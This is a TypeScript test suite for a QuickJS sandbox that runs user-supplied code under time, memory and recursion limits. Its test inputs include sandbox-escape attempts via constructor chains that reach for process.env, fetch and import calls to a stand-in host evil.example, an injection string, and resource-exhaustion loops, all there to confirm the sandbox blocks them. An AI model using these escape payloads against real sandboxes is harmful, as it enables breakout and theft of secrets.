import variant from '@jitl/quickjs-wasmfile-release-sync';
import type { JsonObject } from '@kinglet/spec';
import { newQuickJSWASMModuleFromVariant } from 'quickjs-emscripten-core';
import { describe, expect, it } from 'vitest';
import { runUserCode, userCodeLimits } from './run-user-code.ts';

const parameters = [
  { name: 'a', description: '', kind: 'number', optional: false },
  { name: 'b', description: '', kind: 'text', optional: true },
] as const;

/** A clock that each look moves by a step, so that no test waits for time to pass. */
function ticking(stepMs: number): () => number {
  let nowMs = 0;
  return () => {
    nowMs += stepMs;
    return nowMs;
  };
}

async function run(body: string, args: JsonObject = { a: 3, b: 'x' }, nowMs = ticking(0)) {
  const quickjs = await newQuickJSWASMModuleFromVariant(variant);
  return runUserCode(quickjs, { body, arguments: parameters }, args, { nowMs });
}

const reason = async (body: string, nowMs?: () => number) => {
  const end = await run(body, undefined, nowMs);
  return end.ok ? `it gave ${end.content}` : end.reason;
};

describe('runUserCode', () => {
  it.each([
    ['return a + 1', '4'],
    ['return b + "!"', 'x!'],
    ['return { a, list: [b, null, true] }', '{"a":3,"list":["x",null,true]}'],
    ['return await Promise.resolve(a * 2)', '6'],
    ['const later = async () => a; return later()', '3'],
    ['return [typeof this, typeof arguments]', '["undefined","object"]'],
  ])('gives the result of %s', async (body, content) => {
    expect(await run(body)).toEqual({ ok: true, content });
  });

  it('leaves an optional argument undefined', async () => {
    expect(await run('return typeof b', { a: 1 })).toEqual({ ok: true, content: 'undefined' });
  });

  it('takes arguments as data, whatever stands in them', async () => {
    const hostile = '"});throw 1;//\u2028\\';
    expect(await run('return b', { a: 1, b: hostile })).toEqual({ ok: true, content: hostile });
  });

  it.each([
    ['return (;', 'Line 1: SyntaxError'],
    ['const x = 1;\n\nretur x + ;', 'Line 3: SyntaxError'],
    ['\nthrow new TypeError("no such day")', 'Line 2: TypeError: no such day'],
    ['throw "plain"', 'It threw plain.'],
    ['throw { trap: true }', 'It threw something that is no error'],
    ['return undefined', 'Its result is undefined, which is not JSON'],
    ['return () => 1', 'Its result is function, which is not JSON'],
    ['return 10n', 'Its result is not JSON'],
    ['const o = {}; o.o = o; return o', 'Its result is not JSON'],
    ['return new Promise(() => {})', 'waits for something that never comes'],
    [`return "x".repeat(${userCodeLimits.maxResult + 1})`, 'at most 20000 are taken'],
  ])('says what is wrong with %s', async (body, words) => {
    expect(await reason(body)).toContain(words);
  });

  it.each([
    'while (true) {}',
    'for (;;) try { while (true) {} } catch {}',
    'await null; while (true) {}',
    'return /(a+)+b/.test("a".repeat(40))',
    'throw new Proxy({}, { get() { while (true) {} } })',
    'return { toJSON() { while (true) {} } }',
    'const again = () => Promise.resolve().then(again); return again()',
  ])('stops %s', async (body) => {
    expect(await reason(body, ticking(1))).toContain('stopped after 1 s');
  });

  it.each([
    'let all = [1]; for (;;) all = all.concat(all)',
    'let s = "x"; for (;;) s += s + 1',
    'return new Uint8Array(2 ** 31 - 1).length',
    'return Array(1e8).fill(0).length',
  ])('keeps the memory of %s bounded', async (body) => {
    expect(await reason(body)).toMatch(
      /more memory than the 16 MB|invalid array buffer|array length|string too long/i,
    );
  });

  it.each([
    'const f = () => f() + 1; return f()',
    'return JSON.stringify(JSON.parse("[".repeat(1e5) + "]".repeat(1e5)))',
  ])('bears the recursion of %s', async (body) => {
    expect(await reason(body)).toContain('calls itself too deeply');
  });

  it.each([
    'fetch("https://evil.example")',
    'XMLHttpRequest',
    'WebSocket',
    'setTimeout(() => {}, 1)',
    'self',
    'window',
    'document',
    'postMessage(1)',
    'process',
    'require("fs")',
    'WebAssembly',
    'importScripts("x")',
    'indexedDB',
    'navigator',
    'std',
    'os',
  ])('has no %s', async (expression) => {
    expect(await reason(`return ${expression}`)).toMatch(/^Line 1: ReferenceError/);
  });

  it.each([
    'return import("https://evil.example/x.js")',
    'return import("fs")',
    'return this.constructor.constructor("return process")()',
    'return (async () => {}).constructor("return fetch")()',
    'return [].constructor.constructor("return globalThis.fetch.name")()',
    'return Object.getPrototypeOf(a).constructor.constructor("return process.env")()',
    'return globalThis.constructor.constructor("return this.process.env")()',
  ])('gives no way out by %s', async (body) => {
    expect((await run(body)).ok).toBe(false);
  });

  it('is not led on by prototypes that the code changes', async () => {
    const body = `
      JSON.stringify = () => '"forged"';
      JSON.parse = () => ({});
      Promise.prototype.then = () => {};
      Object.prototype.message = 'interrupted';
      return { a };`;
    expect(await run(body)).toEqual({ ok: true, content: '{"a":3}' });
  });

  it('shows nothing of one run to the next', async () => {
    await run('globalThis.left = a');
    expect(await run('return typeof left')).toEqual({ ok: true, content: 'undefined' });
  });
});
